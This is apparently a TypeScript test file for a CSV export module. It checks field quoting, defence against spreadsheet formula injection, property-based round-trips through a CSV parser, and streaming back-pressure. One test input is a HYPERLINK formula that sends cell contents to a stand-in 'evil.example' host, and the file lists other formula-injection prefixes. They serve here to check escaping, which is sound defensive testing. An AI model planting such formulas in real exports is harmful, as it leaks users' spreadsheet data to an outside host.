import { randomBytes } from 'node:crypto';
import { request as httpRequest, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Readable } from 'node:stream';
import compress from '@fastify/compress';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import Fastify, { type FastifyReply } from 'fastify';
import { describe, expect, it } from 'vitest';
import { type CsvCellKind, csvField, sendCsvText } from './csv-download.ts';

describe('csvField', () => {
  it('quotes only fields with a comma, quote or line break, doubling quotes', () => {
    expect(csvField('plain', 'text')).toBe('plain');
    expect(csvField('a,b', 'text')).toBe('"a,b"');
    expect(csvField('say "hi"', 'text')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines', 'text')).toBe('"two\r\nlines"');
  });

  it('writes null as empty, numbers as text and booleans as 1 or empty', () => {
    expect(csvField(null, 'text')).toBe('');
    expect(csvField(undefined, 'text')).toBe('');
    expect(csvField(150.5, 'number')).toBe('150.5');
    expect(csvField(true, 'code')).toBe('1');
    expect(csvField(false, 'code')).toBe('');
  });

  it('puts a quote mark before text a spreadsheet would run as a formula (OWASP)', () => {
    expect(csvField('=1+1', 'text')).toBe("'=1+1");
    expect(csvField('+1+2', 'text')).toBe("'+1+2");
    expect(csvField('-2+3', 'text')).toBe("'-2+3");
    expect(csvField('@SUM(1)', 'text')).toBe("'@SUM(1)");
    // Tab and carriage return: a CR also needs quoting, the mark goes inside the quotes.
    expect(csvField('\t=1+1', 'text')).toBe("'\t=1+1");
    expect(csvField('\r=1+1', 'text')).toBe('"\'\r=1+1"');
    // Marked first, then quoted as any field: commas, quotes and line breaks stay in one cell.
    expect(csvField('=HYPERLINK("http://evil.example/?"&A2,"x")', 'text')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?""&A2,""x"")"',
    );
    expect(csvField('=1,2', 'text')).toBe('"\'=1,2"');
    expect(csvField('+a\r\nb', 'text')).toBe('"\'+a\r\nb"');
    expect(csvField('@"x"', 'text')).toBe('"\'@""x"""');
  });

  it('leaves plain text, text with a formula character later on, and the empty text alone', () => {
    expect(csvField('ORD-1', 'text')).toBe('ORD-1');
    expect(csvField('a=b', 'text')).toBe('a=b');
    expect(csvField(' =1+1', 'text')).toBe(' =1+1');
    expect(csvField("'=1+1", 'text')).toBe("'=1+1");
    expect(csvField('Дилноза', 'text')).toBe('Дилноза');
    expect(csvField('', 'text')).toBe('');
  });

  it('writes numbers and dates the product formatted as they are, negative amounts included', () => {
    expect(csvField('-1500.00', 'number')).toBe('-1500.00');
    expect(csvField(-3, 'number')).toBe('-3');
    expect(csvField('+5', 'number')).toBe('+5');
    expect(csvField('2026-03-01', 'date')).toBe('2026-03-01');
    expect(csvField('01/03/2026 10:00:00', 'date')).toBe('01/03/2026 10:00:00');
    expect(csvField('WITHDRAWAL', 'code')).toBe('WITHDRAWAL');
  });
});

/** What a spreadsheet should see in a text cell: the text, marked when it starts a formula. */
const shownAsText = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

describe('csvField against a real CSV parser', () => {
  const records = fc.array(
    fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 6 }),
    { minLength: 1, maxLength: 8 },
  );
  // Text starting with a formula character, with quotes, commas and line breaks after it.
  const formulaLike = fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'grapheme' }))
    .map(([first, rest]) => first + rest);
  const rectangular = (rows: string[][]) => {
    const width = rows[0]?.length ?? 1;
    return rows.map((record) => Array.from({ length: width }, (_, index) => record[index] ?? ''));
  };
  const written = (rows: string[][], kind: CsvCellKind) =>
    rows.map((record) => `${record.map((value) => csvField(value, kind)).join(',')}\r\n`).join('');

  it('round-trips any text, quotes, commas and line breaks included, through csv-parse', () => {
    fc.assert(
      fc.property(records, (rows) => {
        const cells = rectangular(rows);
        expect(parse(written(cells, 'number'), { relax_column_count: false })).toEqual(cells);
      }),
    );
  });

  it('reads back every text cell as its text, with a quote mark exactly before a formula', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(fc.oneof(fc.string({ unit: 'grapheme' }), formulaLike), {
            minLength: 1,
            maxLength: 6,
          }),
          {
            minLength: 1,
            maxLength: 8,
          },
        ),
        (rows) => {
          const cells = rectangular(rows);
          const read: string[][] = parse(written(cells, 'text'), { relax_column_count: false });
          expect(read).toEqual(cells.map((record) => record.map(shownAsText)));
          for (const cell of read.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        },
      ),
    );
  });
});

describe('sendCsvText', () => {
  it('ends the record source when the download stops early', async () => {
    let sent: Readable | undefined;
    const reply = {
      header: () => reply,
      send: (stream: Readable) => {
        sent = stream;
        return reply;
      },
    };
    let finished = false;
    let produced = 0;
    async function* records() {
      try {
        for (;;) {
          produced += 1;
          yield 'a,b\r\n'.repeat(1_000);
        }
      } finally {
        finished = true;
      }
    }
    await sendCsvText(reply as unknown as FastifyReply, 'x.csv', ['a', 'b'], records());
    if (!sent) throw new Error('nothing sent');
    const stream = sent;
    await new Promise<void>((resolve) => stream.once('data', () => resolve()));
    stream.destroy();
    await new Promise((resolve) => setTimeout(resolve, 20));
    expect(finished).toBe(true);
    expect(produced).toBeLessThan(100);
  });

  /** Waits until `read` gives the same figure twice, 50 ms apart (nothing is moving any more). */
  const settled = async (read: () => number) => {
    for (let last = Number.NaN; ; ) {
      const now = read();
      if (now === last) return now;
      last = now;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  };

  it.each(['gzip', 'identity'])(
    'pulls the source only as fast as the client reads, through the socket and %s',
    async (encoding) => {
      // 64 KB chunks that deflate cannot shrink (its window is 32 KB): what the server has
      // pulled and not sent has to wait in buffers, which back-pressure keeps small.
      const chunk = randomBytes(64 * 1024);
      let produced = 0;
      let finished = false;
      async function* records() {
        try {
          for (;;) {
            produced += 1;
            yield chunk;
          }
        } finally {
          finished = true;
        }
      }
      const app = Fastify();
      // As app.ts registers it for every route.
      await app.register(compress, { global: true, threshold: 1_024 });
      app.get('/export.csv', (_request, reply) =>
        sendCsvText(reply, 'export.csv', ['a'], records()),
      );
      await app.listen({ host: '127.0.0.1', port: 0 });
      try {
        const { port } = app.server.address() as AddressInfo;
        const response = await new Promise<IncomingMessage>((resolve, reject) => {
          httpRequest(
            {
              host: '127.0.0.1',
              port,
              path: '/export.csv',
              headers: { 'accept-encoding': encoding },
            },
            resolve,
          )
            .on('error', reject)
            .end();
        });
        expect(response.headers['content-encoding']).toBe(encoding === 'gzip' ? 'gzip' : undefined);
        // The client reads one piece, then stops reading.
        await new Promise((resolve) => response.once('data', resolve));
        response.pause();
        const pulled = await settled(() => produced);
        // What the kernel's socket buffers (a few megabytes here; Linux allows them up to tens),
        // the compressor and the response stream hold, not the endless source.
        expect(pulled).toBeLessThan(1_000);
        expect(finished).toBe(false);
        // The client goes away: the source is ended, and nothing more is pulled.
        response.destroy();
        for (let wait = 0; wait < 100 && !finished; wait += 1) {
          await new Promise((resolve) => setTimeout(resolve, 20));
        }
        expect(finished).toBe(true);
        expect(produced).toBeLessThan(pulled + 4);
      } finally {
        await app.close();
      }
    },
  );
});
